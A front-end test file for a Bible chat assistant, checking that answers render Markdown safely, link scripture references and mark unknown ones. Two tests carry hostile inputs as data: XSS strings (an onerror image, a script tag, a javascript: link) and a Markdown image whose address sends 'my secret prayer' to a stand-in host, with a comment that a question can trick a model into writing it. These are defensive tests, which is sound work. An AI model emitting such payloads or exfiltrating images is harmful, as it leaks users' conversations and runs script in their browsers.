import { screen, within } from '@testing-library/react';
import { beforeAll, describe, expect, it } from 'vitest';
import { server } from '@/test/msw-server';
import { renderApp } from '@/test/render';
import { splitUnknownReferences } from './answer-text';
import { answerChat, chatMessage, chatSession, SESSION_A } from './chat-test-server';

const WAIT = { timeout: 5000 };

// The reference parser is a large module: load it once, so each test waits only for its own work.
beforeAll(async () => {
  await import('@server/contracts/scripture-references');
}, 60_000);

/** Opens the chat on a conversation holding one answer, and returns that answer's list item. */
async function showAnswer(content: string, unknownReferences: string[] = []) {
  server.use(
    answerChat({
      sessions: () => [chatSession(SESSION_A, 2)],
      messages: { [SESSION_A]: [chatMessage('user', 'A question'), chatMessage('assistant', content, unknownReferences)] },
    }),
  );
  const view = renderApp('/bible-chat');
  const list = await screen.findByRole('list', { name: 'Messages' }, WAIT);
  const items = await within(list).findAllByRole('listitem');
  const answer = items.find((item) => item.getAttribute('data-role') === 'assistant');
  if (!answer) throw new Error('The answer is not on screen');
  return { ...view, answer };
}

describe('an answer of the Bible Assistant', () => {
  it('renders Markdown: emphasis, lists and headings (from h3, under the panel heading)', async () => {
    const { answer } = await showAnswer('## Forgiveness\n\nWe are **forgiven** to *forgive*:\n\n- Pray\n- Forgive');
    expect(within(answer).getByRole('heading', { level: 3, name: 'Forgiveness' })).toBeInTheDocument();
    expect(within(answer).getByText('forgiven').tagName).toBe('STRONG');
    expect(within(answer).getByText('forgive').tagName).toBe('EM');
    expect(within(answer).getAllByRole('listitem').map((item) => item.textContent)).toEqual(['Pray', 'Forgive']);
  });

  it('never renders HTML written in the answer', async () => {
    const { answer } = await showAnswer('Look: <img src=x onerror=alert(1)> and <script>alert(2)</script> [tap](javascript:alert(3))');
    expect(answer.querySelector('img')).toBeNull();
    expect(answer.querySelector('script')).toBeNull();
    expect(document.querySelector('img[src="x"]')).toBeNull();
    // Shown as the text it is, and a javascript: link goes nowhere.
    expect(answer).toHaveTextContent('<img src=x onerror=alert(1)>');
    expect(answer.querySelector('a[href^="javascript"]')).toBeNull();
    expect(answer).toHaveTextContent('tap');
  });

  it('fetches no picture the answer names, and shows where an outside link leads', async () => {
    // A question can trick a model into writing an image whose address carries the conversation to its host.
    const { answer } = await showAnswer(
      'Here: ![the lost sheep](https://collector.example/p.png?c=my%20secret%20prayer) and [a trusted commentary](https://collector.example/read).',
    );
    expect(answer.querySelector('img')).toBeNull();
    expect(answer).toHaveTextContent('[the lost sheep]');
    expect(answer).not.toHaveTextContent('my secret prayer');
    expect(within(answer).getByRole('link', { name: 'a trusted commentary' })).toHaveAttribute('href', 'https://collector.example/read');
    expect(answer).toHaveTextContent('a trusted commentary (collector.example)');
  });

  it('links a Bible reference to the reader, and shows the verse on hover', async () => {
    const { answer, user } = await showAnswer('God so loved the world (**John 3:16**).\n\n- Read John 3:16 tonight.');
    const links = await within(answer).findAllByRole('link', { name: 'John 3:16' }, WAIT);
    expect(links).toHaveLength(2);
    for (const link of links) expect(link).toHaveAttribute('href', '/bible-reading?book=John&chapter=3&verse=16');
    // The one in the list: tests draw the preview in place (no portal), and a <p> may not hold its <div>.
    await user.hover(links[1] as HTMLElement);
    expect(await screen.findByText(/For God so loved the world/)).toBeInTheDocument();
  });

  it('marks a reference the server found no verse for, and does not link it', async () => {
    const { answer } = await showAnswer('See John 22:1 and John 3:16.', ['John 22:1']);
    expect(await within(answer).findByRole('link', { name: 'John 3:16' }, WAIT)).toBeInTheDocument();
    expect(within(answer).getByText('reference not found')).toBeInTheDocument();
    expect(within(answer).getByText('John 22:1')).not.toHaveAttribute('href');
    expect(within(answer).getByText('John 22:1').closest('a')).toBeNull();
    expect(within(answer).getAllByRole('link')).toHaveLength(1);
  });

  it('does not link a reference the parser knows but the server found no verse for (3 John 1:15 in the KJV)', async () => {
    const { answer } = await showAnswer('Compare 3 John 1:15 with John 3:16.', ['3 John 1:15']);
    expect(await within(answer).findByRole('link', { name: 'John 3:16' }, WAIT)).toBeInTheDocument();
    expect(within(answer).queryByRole('link', { name: '3 John 1:15' })).not.toBeInTheDocument();
    expect(within(answer).getByText('reference not found')).toBeInTheDocument();
  });
});

describe('splitUnknownReferences', () => {
  it('cuts the text around each unknown reference as written, whole references only', () => {
    expect(splitUnknownReferences('See John 22:1, not John 22:15 or 1 John 22:1.', ['John 22:1'])).toEqual([
      { text: 'See ', unknown: false },
      { text: 'John 22:1', unknown: true },
      { text: ', not John 22:15 or 1 ', unknown: false },
      { text: 'John 22:1', unknown: true },
      { text: '.', unknown: false },
    ]);
  });

  it('prefers the longest reference, ignores case and leaves text without one whole', () => {
    expect(splitUnknownReferences('read 1 john 9:9', ['John 9:9', '1 John 9:9'])).toEqual([
      { text: 'read ', unknown: false },
      { text: '1 john 9:9', unknown: true },
    ]);
    expect(splitUnknownReferences('Nothing here (a+b)?', ['(a+b)'])).toEqual([
      { text: 'Nothing here ', unknown: false },
      { text: '(a+b)', unknown: true },
      { text: '?', unknown: false },
    ]);
    expect(splitUnknownReferences('Psalm 23', [])).toEqual([{ text: 'Psalm 23', unknown: false }]);
  });
});
